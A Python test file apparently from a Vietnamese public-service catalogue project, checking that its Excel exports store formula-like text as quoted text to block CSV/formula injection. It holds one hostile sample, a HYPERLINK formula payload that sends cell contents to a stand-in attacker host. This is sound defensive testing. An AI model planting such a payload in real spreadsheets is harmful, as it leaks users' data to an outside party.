"""No Excel export of motcua holds a formula, whatever text it carries (issue 13, finding 14).

A procedure named "=HYPERLINK(…)" was written as a formula in the catalogue export. OWASP "CSV Injection" (Formula
Injection): a cell beginning with =, +, -, @, tab or carriage return must be text. Every workbook is saved through
``kit.excel.workbook_bytes``, which makes each string cell a text cell and gives the dangerous ones Excel's quote
prefix; each export is read back here with openpyxl.
"""

from __future__ import annotations

import io
import re
from datetime import date
from importlib import resources
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from motcua.catalog.exchange import from_xlsx, load_shipped, to_xlsx
from motcua.catalog.schemas import Catalogue
from motcua.dossier.register import register_xlsx
from motcua.kit.excel import FORMULA_TRIGGERS
from tests.dossier.test_register import row
from tests.factories import HKD

HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def assert_text_only(data: bytes, *expected: str) -> None:
    """No cell of any sheet is a formula; each cell that starts like one is text with the quote prefix; and the
    hostile strings are there, as written (so the check cannot pass on an export that dropped them)."""
    book = load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    for ws in book.worksheets:
        for cells in ws.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
    missing = [text for text in expected if text not in seen]
    assert not missing, f"not exported: {missing}"


def test_finding_14_catalogue_export_writes_formula_like_text_as_text() -> None:
    raw: dict[str, Any] = next(p.model_dump(mode="json") for p in load_shipped().procedures if p.code == HKD)
    raw["name"] = HOSTILE
    raw["fees"] = [{**raw["fees"][0], "note": "+84 912 345 678"}]
    raw["documents"] = [{**raw["documents"][0], "name": "-Bản sao giấy tờ"}, *raw["documents"][1:]]
    raw["legal_sources"] = ["@SUM(1+1)", *raw["legal_sources"]]
    catalogue = Catalogue.model_validate({"version": 1, "procedures": [raw]})
    data = to_xlsx(catalogue)
    assert_text_only(data, HOSTILE, "+84 912 345 678", "-Bản sao giấy tờ", "@SUM(1+1)")
    assert from_xlsx(data) == catalogue  # and it imports back as the same text


def test_finding_14_register_export() -> None:
    data = register_xlsx((row("X-1", applicant_name=HOSTILE, applicant_address="+1 Khu 3", note="-chờ"),),
                         commune="Xã Chí Tiên", period_from=date(2026, 11, 1), period_to=date(2026, 11, 30))
    assert_text_only(data, HOSTILE, "+1 Khu 3")


def test_finding_14_every_workbook_is_saved_through_the_one_helper() -> None:
    """A new export cannot bypass the rule: no module but kit/excel.py saves an openpyxl workbook itself."""
    root = Path(str(resources.files("motcua")))
    helper = root / "kit" / "excel.py"
    makers = [path for path in root.rglob("*.py") if path != helper and "Workbook(" in path.read_text("utf-8")]
    assert len(makers) >= 4  # catalogue, register, index report, periodic report
    offenders = [str(path.relative_to(root)) for path in makers
                 if "workbook_bytes(" not in (text := path.read_text("utf-8")) or re.search(r"\.save\(\w", text)]
    assert offenders == []
